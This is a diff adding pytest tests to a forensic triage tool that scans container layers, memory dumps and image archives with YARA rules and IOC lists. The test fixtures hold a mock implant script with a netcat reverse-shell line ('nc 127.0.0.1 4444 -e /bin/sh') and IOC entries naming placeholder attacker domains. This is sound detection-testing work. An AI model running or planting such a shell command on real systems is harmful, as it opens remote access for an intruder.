@@ -128,7 +128,11 @@ def test_a_memory_hit_on_the_criu_fixture(tmp_path):
     hunting = load_hunting([str(tmp_path / "t.yar")], [str(tmp_path / "bundle.json")])
     summary = triage([str(tmp_path / "dumps" / "after")], str(case), hunting=hunting)
     assert summary.failed == 0
-    sockets = _query(case, "SELECT title, rationale FROM findings WHERE title LIKE 'IOC ipv4 127.0.0.1%'")
+    sockets = _query(
+        case,
+        "SELECT title, rationale FROM findings WHERE title LIKE 'IOC ipv4 127.0.0.1%'"
+        " AND json_extract_string(evidence, '$[0].table') = 'sockets'",
+    )
     assert sockets and all("local c2" in why and "socket" in why for _t, why in sockets)
     rows = _query(case, "SELECT severity, subject, details FROM findings WHERE producer = 'yara.memory'")
     assert rows and all(sev == "critical" for sev, _s, _d in rows)
@@ -148,3 +152,144 @@ def test_the_cli_exits_2_naming_file_and_line(tmp_path, capsys):
     assert code == 2
     assert f"{bad}:3" in capsys.readouterr().err
     assert not (tmp_path / "c.duckdb").exists()
+
+
+def test_an_ioc_address_in_a_changed_files_content(overlay2_root, tmp_path):
+    """/root/implant.sh runs ``nc 127.0.0.1 4444``: the address is found in its bytes as the diff
+    reads them (one read), and is one finding."""
+    (tmp_path / "iocs.txt").write_text("127.0.0.1 # c2\n")
+    case = tmp_path / "case.duckdb"
+    triage([str(overlay2_root)], str(case), hunting=load_hunting(None, [str(tmp_path / "iocs.txt")]))
+    (matches,) = _query(case, "SELECT matches FROM changes WHERE path = '/root/implant.sh'")[0]
+    (m,) = json.loads(matches)
+    assert (m["indicator"], m["value"], m["seen"]) == ("ipv4", "127.0.0.1", "content")
+    rows = _query(
+        case,
+        "SELECT title, rationale FROM findings WHERE subject = '/root/implant.sh' AND title LIKE 'IOC %'",
+    )
+    why = f"the content of /root/implant.sh matches indicator c2 (ipv4 127.0.0.1, from {tmp_path}/iocs.txt:1)"
+    assert rows == [("IOC ipv4 127.0.0.1: /root/implant.sh", why)]
+
+
+OTHER_RULE = 'rule shebang { strings: $a = "#!/bin/sh" condition: $a at 0 }'
+
+
+def _rules(tmp_path: Path, name: str, text: str) -> str:
+    path = tmp_path / name
+    path.write_text(text)
+    return str(path)
+
+
+def test_other_rules_rescan_what_is_done_and_the_same_rules_reuse_it(overlay2_root, tmp_path):
+    case = tmp_path / "case.duckdb"
+    triage([str(overlay2_root)], str(case))  # no rules: the diffs are done without matches
+    assert _query(case, "SELECT count(*) FROM changes WHERE matches IS NOT NULL") == [(0,)]
+
+    def run(rules: str) -> dict[str, set[str]]:
+        events: list[dict] = []
+        triage([str(overlay2_root)], str(case), events.append, load_hunting([rules]))
+        out: dict[str, set[str]] = {}
+        for e in events:
+            out.setdefault(e["status"], set()).add(" ".join(e["task"].split(" ")[:2]))
+        return out
+
+    implant = _rules(tmp_path, "a.yar", IMPLANT_RULE)
+    first = run(implant)
+    assert "yara rescan" in first["done"] and "yara image" in first["done"]
+    assert "diff" not in {t.split(" ")[0] for t in first["done"]}  # the diffs are not run again
+    titles = {t for (t,) in _query(case, "SELECT title FROM findings WHERE producer = 'findings.rules'")}
+    assert "YARA implant_script: /root/implant.sh" in titles
+
+    again = run(implant)  # the same rules: nothing rescanned
+    assert "yara rescan" in again["reused"] and "yara rescan" not in again.get("done", set())
+    assert "yara image" in again["reused"]
+
+    other = run(_rules(tmp_path, "b.yar", OTHER_RULE))  # other rules: rescanned, and they replace
+    assert "yara rescan" in other["done"] and "yara image" in other["done"]
+    titles = {t for (t,) in _query(case, "SELECT title FROM findings WHERE title LIKE 'YARA %'")}
+    assert "YARA shebang: /root/implant.sh" in titles
+    assert not any(t.startswith("YARA implant_script") for t in titles)
+    params = _query(case, "SELECT DISTINCT params FROM tasks WHERE task IN ('yara-changes', 'yara-layers')")
+    assert params == [(load_hunting([str(tmp_path / "b.yar")]).digest,)]
+
+
+def _docker_save(path: Path, files: dict[str, bytes]) -> None:
+    """A ``docker save`` archive (Docker < 25 layout) of one image of one layer holding FILES."""
+    import hashlib
+
+    layer = io.BytesIO()
+    with tarfile.open(fileobj=layer, mode="w", format=tarfile.PAX_FORMAT) as tf:
+        for name, data in files.items():
+            info = tarfile.TarInfo(name)
+            info.size, info.mode = len(data), 0o755
+            tf.addfile(info, io.BytesIO(data))
+    raw = layer.getvalue()
+    diff_id = "sha256:" + hashlib.sha256(raw).hexdigest()
+    config = json.dumps(
+        {
+            "architecture": "amd64",
+            "os": "linux",
+            "config": {},
+            "rootfs": {"type": "layers", "diff_ids": [diff_id]},
+            "history": [{"created": "2024-01-01T00:00:00Z", "created_by": "COPY . /"}],
+        }
+    ).encode()
+    config_name = hashlib.sha256(config).hexdigest() + ".json"
+    manifest = json.dumps([{"Config": config_name, "RepoTags": ["evil/app:1"], "Layers": ["l1/layer.tar"]}])
+    with tarfile.open(path, "w") as tf:
+        for name, data in (
+            (config_name, config),
+            ("l1/layer.tar", raw),
+            ("manifest.json", manifest.encode()),
+        ):
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tf.addfile(info, io.BytesIO(data))
+
+
+def test_the_layers_of_an_image_archive_are_scanned(tmp_path):
+    (tmp_path / "evidence").mkdir()
+    archive = tmp_path / "evidence" / "save.tar"
+    _docker_save(archive, {"opt/run.sh": b"#!/bin/sh\nnc 127.0.0.1 4444 -e /bin/sh\n", "etc/motd": b"hi\n"})
+    case = tmp_path / "case.duckdb"
+    hunting = load_hunting(
+        [_rules(tmp_path, "a.yar", IMPLANT_RULE)], [_rules(tmp_path, "i.txt", "127.0.0.1\n")]
+    )
+    summary = triage([str(archive)], str(case), hunting=hunting)
+    assert summary.failed == 0
+    rows = _query(case, "SELECT title, details FROM findings WHERE producer = 'yara.layers' ORDER BY title")
+    assert [t.split(":")[0] for t, _d in rows] == ["IOC ipv4 127.0.0.1", "YARA implant_script"]
+    for _t, details in rows:
+        d = json.loads(details)
+        assert d["image"] == "evil/app:1" and d["layer_digest"].startswith("sha256:")
+    assert all("/opt/run.sh in layer sha256:" in t for t, _d in rows)
+
+
+def test_rule_and_ioc_files_are_read_as_regular_files_only(tmp_path):
+    import os
+
+    from pensieve.hunting.rules import RuleError
+
+    real = tmp_path / "real.yar"
+    real.write_text(IMPLANT_RULE)
+    (tmp_path / "link.yar").symlink_to(real)
+    with pytest.raises(RuleError, match="symlink"):
+        load_hunting([str(tmp_path / "link.yar")])
+    os.mkfifo(tmp_path / "fifo.txt")
+    with pytest.raises(RuleError, match="not a regular file"):
+        load_hunting(None, [str(tmp_path / "fifo.txt")])  # refused at once, no hang on the FIFO
+    assert load_hunting([str(real)]).rules is not None
+
+
+def test_network_iocs_across_blocks_as_whole_words(tmp_path):
+    (tmp_path / "i.txt").write_text("evil.example.com\n10.1.2.3\nhttps://drop.example.net/x\n")
+    hunting = load_hunting(None, [str(tmp_path / "i.txt")])
+    scanner = ContentScanner(hunting.factories([]))
+    pad = b"x" * ((1 << 20) - 8)
+    scanner(io.BytesIO(pad + b" evil.example.com\n"), "/across")  # the domain straddles two blocks
+    scanner(io.BytesIO(pad + b"  evil.example.comx"), "/longer")  # not the domain: a longer word
+    scanner(io.BytesIO(b"GET HTTPS://drop.example.net/x 10.1.2.3;"), "/both")
+    scanner(io.BytesIO(b"110.1.2.34 notevil.example.community"), "/none")
+    assert [m["value"] for m in scanner.matches["/across"]] == ["evil.example.com"]
+    assert "/longer" not in scanner.matches and "/none" not in scanner.matches
+    assert sorted(m["indicator"] for m in scanner.matches["/both"]) == ["ipv4", "url"]
